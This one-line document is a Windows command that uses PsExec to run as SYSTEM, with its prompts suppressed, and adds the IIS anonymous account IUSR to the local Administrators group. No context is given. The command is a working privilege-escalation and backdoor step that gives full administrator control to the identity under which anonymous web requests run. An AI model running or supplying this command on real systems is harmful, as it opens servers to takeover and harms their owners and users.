C:\tools\psexec64.exe -accepteula -nobanner -s cmd /c net localgroup Administrators IUSR /add
